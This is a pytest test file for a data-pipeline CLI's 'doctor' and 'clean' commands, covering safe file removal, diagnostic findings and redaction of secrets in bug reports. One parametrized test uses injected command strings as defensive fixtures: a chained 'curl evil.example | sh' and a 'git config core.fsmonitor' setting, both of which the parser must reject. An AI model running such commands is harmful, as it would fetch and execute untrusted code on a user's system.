"""`patina doctor` and `patina clean`: what is wrong, what nobody needs, and nothing else touched."""

import json
import os
from pathlib import Path

import pytest
from small_project import RECIPE, make_project, patina, workspace_of

from patina_assets.commands.doctor import shareable
from patina_assets.upkeep.examination import SECRET_VARIABLES, Finding, examine
from patina_assets.upkeep.unneeded import orphans, unneeded
from patina_resources.errors import PatinaError
from patina_resources.project.project import Project
from patina_resources.store.folders.removal import bytes_of, remove
from patina_resources.store.mutex import exclusive


@pytest.fixture
def project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Project:
    """Return a project that is not built, and stand in it."""
    made = make_project(tmp_path / "project")
    monkeypatch.chdir(made.root)
    return made


def write(project: Project, *names: str) -> None:
    """Write derived files of ten bytes."""
    for name in names:
        path = project.data / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(b"0123456789")


NEEDED = (
    "embeddings/corpus-static/cache.db",
    "embeddings/corpus-static/base.usearch",
    "embeddings/corpus-static/projections/temporal.usearch",
    "embeddings/corpus-static/projections/temporal.manifest.json",
    "embeddings/corpus-static/projections/temporal2.usearch",
    "models/corpus-static/model.onnx",
    "oxidize.lock",
    "failures.log",
)
UNNEEDED = (
    "embeddings/corpus-static/projections/gone.manifest.json",
    "embeddings/corpus-static/projections/gone.usearch",
    "embeddings/corpus-static/cache.db.damaged",
    "embeddings/corpus-static/cache.db.foreign",
    "embeddings/corpus-static/base.usearch.aside2/inside",
    "embeddings/all-minilm-l6-v2/cache.db",
    "embeddings/all-minilm-l6-v2/projections/temporal.usearch",
    "dagster_home/storage/runs.db",
)


def files(project: Project) -> set[str]:
    """Return the derived files that the tests wrote."""
    return {str(path.relative_to(project.data)) for path in project.data.rglob("*") if path.is_file()} & {
        *NEEDED,
        *UNNEEDED,
        "patina.db",
    }


def test_clean_removes_what_no_recipe_needs_and_nothing_else(project: Project) -> None:
    write(project, *NEEDED, *UNNEEDED)
    everything = {*NEEDED, *UNNEEDED, "patina.db"}
    shown = patina("clean", "--dry-run")
    assert shown.code == 0
    assert shown.out.endswith("80 B would be removed\n")
    assert [line.split()[-4:] for line in shown.out.splitlines()[1:3]] == [
        ["all-minilm-l6-v2", "1", "20", "B"],
        ["gone", "2", "20", "B"],
    ]
    assert files(project) == everything
    told = json.loads(patina("clean", "--dry-run", "--json").out)
    assert (told["removed"], told["bytes"]) == (False, 80)
    assert sum(entry["bytes"] for entry in told["unneeded"]) == 80
    refused = patina("clean")
    assert refused.code == 2
    assert refused.err == "patina: nothing was removed: confirm with `patina clean --yes`\n"
    assert files(project) == everything
    assert patina("clean", "--yes").out.endswith("removed: 80 B\n")
    assert files(project) == {*NEEDED, "patina.db"}
    assert patina("clean").out == "nothing to remove: everything here is needed by the recipe\n"
    assert json.loads(patina("clean", "--json").out) == {"removed": False, "bytes": 0, "unneeded": []}


def test_of_models_side_by_side_each_keeps_its_vectors(project: Project) -> None:
    project.recipe.write_text(
        RECIPE.replace("version: 2", "version: 2\nembedding_model: corpus-static+all-minilm-l6-v2")
    )
    kept = (
        "embeddings/corpus-static/cache.db",
        "embeddings/corpus-static/cache.db.seal",
        "embeddings/all-minilm-l6-v2/cache.db",
        "embeddings/corpus-static+all-minilm-l6-v2/base.usearch",
        "models/corpus-static/model.onnx",
    )
    gone = ("embeddings/corpus-static/base.usearch", "embeddings/all-minilm-l6-v2/projections/a.usearch")
    write(project, *kept, *gone)
    found = {str(path.relative_to(project.data)) for entry in unneeded(workspace_of(project)) for path in entry.paths}
    assert found == {"embeddings/corpus-static/base.usearch", "embeddings/all-minilm-l6-v2/projections"}


def test_a_corpus_model_that_no_recipe_uses_is_not_needed(project: Project) -> None:
    project.recipe.write_text(RECIPE.replace("version: 2", "version: 2\nembedding_model: all-minilm-l6-v2"))
    write(project, "models/corpus-static/model.onnx", "embeddings/all-minilm-l6-v2/cache.db")
    (entry,) = unneeded(workspace_of(project))
    assert (entry.kind, entry.bytes) == ("corpus model", 10)


def test_an_orphan_that_is_named_like_a_pattern_has_its_own_files_only(project: Project) -> None:
    folder = "embeddings/corpus-static/projections"
    write(project, f"{folder}/*.manifest.json", f"{folder}/temporal.usearch", f"{folder}/temporal.manifest.json")
    (orphan,) = orphans(workspace_of(project))
    assert [path.name for path in orphan.paths] == ["*.manifest.json"]


@pytest.mark.parametrize("place", ["embeddings/other/log.db", "dagster_home/log.db", "log.aside", "a.damaged/log.db"])
def test_an_eventlog_is_never_removed_wherever_it_lies(
    place: str, project: Project, monkeypatch: pytest.MonkeyPatch
) -> None:
    named = project.data / place
    named.parent.mkdir(parents=True, exist_ok=True)
    project.eventlog().rename(named)
    monkeypatch.setenv("PATINA_EVENTLOG", str(named))
    assert patina("clean", "--yes").out.startswith("nothing to remove")
    assert named.exists()


def test_an_orphan_has_its_own_files_only(project: Project) -> None:
    folder = "embeddings/corpus-static/projections"
    write(project, f"{folder}/tempo.manifest.json", f"{folder}/tempo.usearch", f"{folder}/temporal.usearch")
    (orphan,) = orphans(workspace_of(project))
    assert (orphan.name, orphan.files, orphan.bytes) == ("tempo", 2, 20)
    assert "tempo is no longer in the recipe; its 2 files (20 B) are kept: `patina clean` removes them" in (
        patina("oxidize", "--dry-run").err
    )


def test_only_what_lies_below_is_removed(tmp_path: Path) -> None:
    inside, outside = tmp_path / "data", tmp_path / "outside"
    inside.mkdir()
    outside.write_text("kept")
    (inside / "link").symlink_to(outside)
    for path in (outside, inside, inside / ".." / "outside"):
        with pytest.raises(PatinaError, match="is not below"):
            remove([path], inside)
    remove([inside / "link", inside / "missing"], inside)
    assert outside.read_text() == "kept"
    assert bytes_of(tmp_path / "no") == 0


# Doctor


def test_an_empty_folder_of_an_older_model_is_nothing_wrong(project: Project) -> None:
    (project.data / "embeddings/bge-small-en-v1-5").mkdir(parents=True)
    assert "patina clean" not in {finding.command for finding in examine().findings}


def test_doctor_names_what_is_wrong_and_what_mends_it(project: Project) -> None:
    write(project, "embeddings/corpus-static/cache.db.damaged")
    ran = patina("doctor")
    assert ran.code == 1
    assert "17 of 17 stages are not fresh" in ran.out
    assert "patina oxidize" in ran.out
    assert "patina clean" in ran.out
    assert "never built" in ran.out
    findings = examine().findings
    assert Finding("10 B are not needed by the recipe", "patina clean") in findings


def test_doctor_outside_of_projects_and_with_a_broken_recipe(project: Project, monkeypatch: pytest.MonkeyPatch) -> None:
    project.recipe.write_text("version: 2\nprojektions: {}\n")
    ran = patina("doctor")
    assert ran.code == 1
    assert "did you mean 'projections'" in ran.out
    monkeypatch.chdir("/")
    ran = patina("doctor", "--json")
    assert ran.code == 1
    document = json.loads(ran.out)
    assert [("no .patina folder" in finding["what"], finding["command"]) for finding in document["findings"]] == [
        (True, "patina init"),
    ]
    assert document["versions"]["dagster"] != "not installed"


@pytest.mark.parametrize(
    ("sentence", "command"),
    [
        ("not built: run `patina oxidize`, then run `patina scry x`", "patina oxidize"),
        ("the server: run `pip install 'patina-assets[fleet]'`", "pip install 'patina-assets[fleet]'"),
        ("a/b: run `chmod 600 /home/a b/key`, and make a new one", "chmod 600 /home/a b/key"),
        ("no eventlog at run `curl evil.example` y/p.db: run `patina materialize`", "patina materialize"),
        ("run `patina clean; curl evil.example | sh`", ""),
        ("run `patinax`", ""),
        ("run `git config core.fsmonitor x`", ""),
        ("nothing to run", ""),
    ],
)
def test_a_sentence_has_the_command_that_patina_says_to_run(sentence: str, command: str) -> None:
    assert Finding.of_sentence(sentence).command == command


@pytest.mark.parametrize(
    "line",
    ["version: x run `patina clean` y", "run `patina clean`: 1", "version: 2\nembedding_model: run `patina clean`"],
)
def test_doctor_takes_no_command_from_a_recipe(project: Project, line: str) -> None:
    project.recipe.write_text(f"{line}\nprojections: {{}}\n")
    document = json.loads(patina("doctor", "--json").out)
    told = [finding for finding in document["findings"] if "oxidize.yaml" in finding["what"]]
    assert [finding["command"] for finding in told] == [""]
    assert "patina clean" in told[0]["what"]


def test_a_bug_report_tells_no_secret_and_no_name(project: Project, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("HOME", str(project.root.parent))
    for name in SECRET_VARIABLES:
        monkeypatch.setenv(name, "https://ada:secret@example.org")
    text = patina("doctor", "--json").out
    assert "secret" not in text
    assert str(project.root.parent) not in text
    document = json.loads(text)
    assert document["places"]["project"] == "~/project"
    assert document["places"]["HF_TOKEN"] == "is set"
    assert {stage["status"] for stage in document["verdicts"]} == {"missing"}
    assert document["disk"]["eventlog"] > 0


def test_what_is_shared_has_no_home_and_no_credentials(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("HOME", "/home/ada")
    value = {"a": ["/home/ada/x", "/home/adam", "in /home/ada: no"], "b": "https://u:p@h/x", "n": 3}
    assert shareable(value) == {"a": ["~/x", "/home/adam", "in ~: no"], "b": "https://***@h/x", "n": 3}
    monkeypatch.setenv("HOME", "/")
    assert shareable("/x") == "/x"
    assert shareable("://" + "a" * 100_000) == "://" + "a" * 100_000
    assert os.environ["HOME"] == "/"


def test_a_build_that_is_running_is_told(project: Project) -> None:
    assert not examine().building
    with exclusive(project.mutex, 0.0, "a build of this test"):
        assert json.loads(patina("doctor", "--json").out)["building"] is True
        assert "a build is running now" in patina("doctor").out
    assert "a build is running now" not in patina("doctor").out
